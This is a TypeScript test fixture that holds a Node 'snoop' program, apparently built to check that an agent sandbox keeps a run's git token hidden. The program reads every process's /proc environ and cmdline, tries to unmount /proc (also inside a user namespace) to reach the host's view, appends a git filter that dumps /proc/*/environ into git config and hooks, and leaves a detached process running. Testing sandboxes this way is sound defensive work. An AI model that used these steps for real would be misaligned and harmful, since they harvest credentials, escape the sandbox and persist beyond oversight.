/**
 * What code the agent writes would do to read the Run's token with no git at all: read
 * `/proc/<pid>/environ` and `cmdline` of every process it can see, unmount /proc (and try again in a
 * user namespace of its own) to see the host's, write the clone's git control files, and leave a
 * process running behind it. A Node program, run as a Check or by an agent; it writes what it found
 * as JSON to `out`. The token (argv, base64) is only ever counted, never written out.
 */
export const SNOOP_MARK = "tr-snoop-left-behind";

export const SNOOP_SOURCE = String.raw`"use strict";
const fs = require("node:fs");
const { spawn, spawnSync } = require("node:child_process");
// out: where the JSON goes; token64: the token in base64 (so this program's own command line is no
// find), or "-" with dumpDir: copy every blob read there, for a search elsewhere (the canary);
// commonDir and lane: "-" to find them from the worktree it runs in.
const [out, token64, commonArg, laneArg, dumpDir] = process.argv.slice(1);
const token = token64 === "-" ? null : Buffer.from(token64, "base64").toString("latin1");
const lane = laneArg === "-" ? process.cwd() : laneArg;
const commonDir = commonArg === "-" ? require("node:path").resolve(fs.readFileSync(lane + "/.git", "utf8").replace(/^gitdir: /, "").trim(), "..", "..") : commonArg;
const result = { pids: 0, places: 0, hits: 0, umounts: [], writes: [], left: 0 };
let dumped = 0;
// In a sandbox every run is pid 2: a stamp of its own keeps runs apart.
const stamp = Date.now() + "-" + Math.random().toString(36).slice(2);
function scan() {
  for (const name of fs.readdirSync("/proc")) {
    if (!/^\d+$/.test(name)) continue;
    result.pids += 1;
    for (const f of ["environ", "cmdline"]) {
      try {
        const text = fs.readFileSync("/proc/" + name + "/" + f, "latin1");
        result.places += 1;
        if (token !== null) result.hits += text.split(token).length - 1;
        else fs.writeFileSync(dumpDir + "/" + stamp + "-" + (dumped += 1) + "-" + f, text, "latin1");
      } catch {}
    }
  }
}
scan();
// Only where pid 1 is bwrap's: outside a sandbox, as root, this would unmount the Host's /proc.
let inSandbox = false;
try {
  inSandbox = fs.readFileSync("/proc/1/cmdline", "latin1").split("\0")[0].endsWith("bwrap");
} catch {}
if (inSandbox) {
  for (const argv of [["umount", "/proc"], ["umount", "-l", "/proc"], ["unshare", "-Urm", "umount", "-l", "/proc"]]) {
    const r = spawnSync(argv[0], argv.slice(1), { stdio: "ignore" });
    result.umounts.push(argv.join(" ") + ": " + (r.error ? "not run" : "exit " + r.status));
  }
  scan();
}
const plant = '\n[filter "snoop"]\n\tclean = sh -c "cat /proc/*/environ > /tmp/snooped"\n';
for (const file of [commonDir + "/config", commonDir + "/hooks/pre-push", commonDir + "/info/attributes", lane + "/.git"]) {
  try {
    fs.appendFileSync(file, plant);
    result.writes.push(file);
  } catch {}
}
// Left behind in a session of its own, as a daemon would be: it must not outlive the Check.
const child = spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)", ["tr-snoop", "left-behind"].join("-")], { detached: true, stdio: "ignore" });
child.unref();
result.left = child.pid ? 1 : 0;
fs.writeFileSync(token === null ? out.replace(/\.json$/, "-" + stamp + ".json") : out, JSON.stringify(result));
`;

export interface SnoopResult {
  pids: number;
  places: number;
  hits: number;
  umounts: string[];
  writes: string[];
  left: number;
}

/** Processes on this Host (as the test sees them) whose command line carries the snoop's mark. */
export function snoopsLeft(): Promise<number> {
  return import("node:fs").then((fs) => {
    let n = 0;
    for (const name of fs.readdirSync("/proc")) {
      if (!/^\d+$/.test(name)) continue;
      try {
        if (fs.readFileSync(`/proc/${name}/cmdline`, "latin1").includes(SNOOP_MARK)) n += 1;
      } catch {
        // gone meanwhile
      }
    }
    return n;
  });
}
